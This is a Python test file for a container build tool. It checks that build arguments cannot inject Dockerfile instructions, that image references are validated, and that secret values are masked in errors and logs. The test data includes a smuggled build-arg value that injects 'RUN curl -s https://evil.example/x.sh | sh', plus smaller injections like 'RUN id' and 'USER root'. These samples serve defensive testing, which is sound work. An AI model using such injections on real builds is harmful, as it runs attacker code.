"""No build arg becomes a Dockerfile instruction: the CA-trust path writes values into text.

A fake engine records the Dockerfile of every trust image it is asked to build, so each test
sees exactly the text a real engine would have received.
"""

from __future__ import annotations

import json
import tarfile
from collections.abc import Iterator
from pathlib import Path
from typing import IO, Any

import pytest

from stablebuild.buildargs import MASK, redactor_for
from stablebuild.engine.build import BuildRequest, build
from stablebuild.engine.client import Engine
from stablebuild.engine.trust import (
    plan_trust,
    reference_problem,
    rewrite_from_lines,
    trust_dockerfile_text,
)
from stablebuild.errors import EngineError
from stablebuild.report.model import BuildStatus
from stablebuild.stages import KEYWORDS

DOCKERFILE = """\
ARG BASE=python:3.12-slim
FROM ${BASE} AS builder
RUN pip wheel -w /wheels six
FROM python:3.12-slim
COPY --from=builder /wheels /wheels
"""
INJECTED = "python:3.12-slim\nRUN curl -s https://evil.example/x.sh | sh"


class TrustAPI:
    """Builds trust images: records each Dockerfile it gets, answers with an image id."""

    def __init__(self, error: str | None = None) -> None:
        self.dockerfiles: list[str] = []
        self.error = error
        self.builds: list[dict[str, Any]] = []

    def build(
        self, context: IO[bytes], params: dict[str, str], **_: Any
    ) -> Iterator[dict[str, Any]]:
        build = {**params, "buildargs": json.loads(params.get("buildargs", "{}"))}
        self.builds.append(build)
        if "dockerfile" not in params:  # a trust image: its context holds its Dockerfile
            with tarfile.open(fileobj=context) as tar:
                member = tar.extractfile("Dockerfile")
                assert member is not None
                self.dockerfiles.append(member.read().decode())
        if self.error:
            yield {"error": self.error}
            return
        yield {"stream": f"Step 1/1 : RUN echo {build['buildargs']}\n"}
        yield {"aux": {"ID": "sha256:" + "b" * 64}}


def plan(tmp_path: Path, args: dict[str, str], api: TrustAPI | None = None) -> Any:
    (tmp_path / "Dockerfile").write_text(DOCKERFILE)
    (tmp_path / "ca.pem").write_text("-----BEGIN CERTIFICATE-----\n")
    engine = Engine(api=api or TrustAPI(), info={})
    return plan_trust(
        engine, tmp_path / "Dockerfile", None, args, tmp_path / "ca.pem", redactor_for(args)
    )


def instructions(text: str) -> list[str]:
    return [line.split()[0].upper() for line in text.splitlines() if line.strip()]


def test_a_line_break_in_a_build_arg_is_refused_before_anything_is_built(tmp_path: Path) -> None:
    api = TrustAPI()
    with pytest.raises(EngineError, match=r"build arg BASE: its value holds a line break"):
        plan(tmp_path, {"BASE": INJECTED}, api)
    assert api.builds == []  # no trust image, and no Dockerfile written anywhere


@pytest.mark.parametrize(
    "value",
    ["python:3.12-slim AS x", "python:3.12-slim\tRUN id", "Python:3.12", "python:3.12 --rm"],
)
def test_a_one_line_value_that_is_no_image_reference_is_refused_naming_the_arg(
    tmp_path: Path, value: str
) -> None:
    api = TrustAPI()
    with pytest.raises(EngineError) as caught:
        plan(tmp_path, {"BASE": value}, api)
    message = caught.value.message
    assert "line 2: FROM ${BASE}" in message and "build arg BASE" in message
    assert "not an image reference" in message and "\n" not in message
    assert api.builds == []


def test_a_good_base_gives_exactly_three_instructions(tmp_path: Path) -> None:
    api = TrustAPI()
    result = plan(tmp_path, {"BASE": "registry.example.com:5000/team/python:3.12-slim"}, api)
    try:
        assert len(api.dockerfiles) == 1
        assert instructions(api.dockerfiles[0]) == ["FROM", "COPY", "ENV"]
        assert api.dockerfiles[0].startswith(
            "FROM registry.example.com:5000/team/python:3.12-slim\n"
        )
        rewritten = result.dockerfile.read_text()
        assert instructions(rewritten) == instructions(DOCKERFILE)
        assert rewritten.splitlines()[1] == f"FROM sha256:{'b' * 64} AS builder"
    finally:
        result.close()


def test_trust_text_and_rewrite_refuse_what_is_not_one_reference() -> None:
    with pytest.raises(EngineError, match="line break"):
        trust_dockerfile_text(INJECTED)
    with pytest.raises(EngineError, match="cannot rewrite line 2"):
        rewrite_from_lines(DOCKERFILE, {2: "x\nUSER root"})
    text = rewrite_from_lines(DOCKERFILE, {2: "sha256:" + "c" * 64})
    assert [k for k in instructions(text) if k in KEYWORDS] == instructions(DOCKERFILE)


@pytest.mark.parametrize(
    "image",
    [
        "python",
        "python:3.12.7-slim-bookworm",
        "library/python:3.12",
        "docker.io/library/python:3.12",
        "localhost:5000/a/b-c__d.e:tag_1",
        "[::1]:5000/x:1",
        "python@sha256:" + "0" * 64,
        "python:3.12@sha256:" + "0" * 64,
        "sha256:" + "f" * 64,
        "f" * 64,
        "scratch",
    ],
)
def test_references_docker_accepts(image: str) -> None:
    assert reference_problem(image) is None


@pytest.mark.parametrize(
    ("image", "why"),
    [
        ("python:3.12\nRUN id", "a line break"),
        ("python:3.12\rRUN id", "a line break"),
        ("python:3.12 AS x", "' '"),
        ("Python:3.12", "NAME[:TAG][@DIGEST]"),
        ("python:", "NAME[:TAG][@DIGEST]"),
        ("python:-tag", "NAME[:TAG][@DIGEST]"),
        ("-python", "NAME[:TAG][@DIGEST]"),
        ("python@sha256:abc", "NAME[:TAG][@DIGEST]"),
        ("a/" * 300 + "b", "characters long"),
        ("", "NAME[:TAG][@DIGEST]"),
    ],
)
def test_references_docker_refuses(image: str, why: str) -> None:
    problem = reference_problem(image)
    assert problem is not None and why in problem


def test_a_secret_base_is_masked_in_the_refusal(tmp_path: Path) -> None:
    (tmp_path / "Dockerfile").write_text(
        "ARG REGISTRY_TOKEN\nFROM ${REGISTRY_TOKEN} AS b\nFROM x\n"
    )
    (tmp_path / "ca.pem").write_text("pem")
    args = {"REGISTRY_TOKEN": "Tok en-value-123"}
    engine = Engine(api=TrustAPI(), info={})
    with pytest.raises(EngineError) as caught:
        plan_trust(
            engine, tmp_path / "Dockerfile", None, args, tmp_path / "ca.pem", redactor_for(args)
        )
    assert "Tok en-value-123" not in caught.value.message
    assert MASK in caught.value.message and "build arg REGISTRY_TOKEN" in caught.value.message


def test_an_engine_error_naming_a_secret_base_is_masked(tmp_path: Path) -> None:
    (tmp_path / "Dockerfile").write_text("ARG BASE\nFROM ${BASE} AS b\nRUN true\nFROM scratch\n")
    (tmp_path / "ca.pem").write_text("pem")
    base = "registry.example.com/ghp-token-1234/python:3.12"
    args = {"BASE": base}
    api = TrustAPI(error=f"pull access denied for {base}")
    engine = Engine(api=api, info={})
    with pytest.raises(EngineError) as caught:
        plan_trust(
            engine,
            tmp_path / "Dockerfile",
            None,
            args,
            tmp_path / "ca.pem",
            redactor_for(args, ["BASE"]),
        )
    assert base not in caught.value.message and MASK in caught.value.message


def test_build_refuses_a_multi_line_arg_without_calling_the_engine(tmp_path: Path) -> None:
    api = TrustAPI()
    request = BuildRequest(
        image="api",
        context=tmp_path,
        dockerfile=tmp_path / "Dockerfile",
        tag=None,
        label="x",
        args={"NPM_TOKEN": "abc\nRUN id"},
    )
    outcome = build(Engine(api=api, info={}), request)
    assert outcome.status is BuildStatus.FAILED and api.builds == []
    assert outcome.error is not None and "build arg NPM_TOKEN" in outcome.error
    assert "RUN id" not in outcome.error


def test_build_masks_secret_values_in_its_log(tmp_path: Path) -> None:
    api = TrustAPI()
    request = BuildRequest(
        image="api",
        context=tmp_path,
        dockerfile=tmp_path / "Dockerfile",
        tag=None,
        label="x",
        args={"INDEX_CREDS": "hunter2-long", "PYTHON_VERSION": "3.12"},
        secret_args=("INDEX_CREDS",),
    )
    outcome = build(Engine(api=api, info={}), request)
    assert api.builds[0]["buildargs"]["INDEX_CREDS"] == "hunter2-long"
    assert outcome.status is BuildStatus.BUILT
    assert "hunter2-long" not in " ".join(outcome.log) and MASK in " ".join(outcome.log)
    assert "3.12" in " ".join(outcome.log)  # only secret values are masked
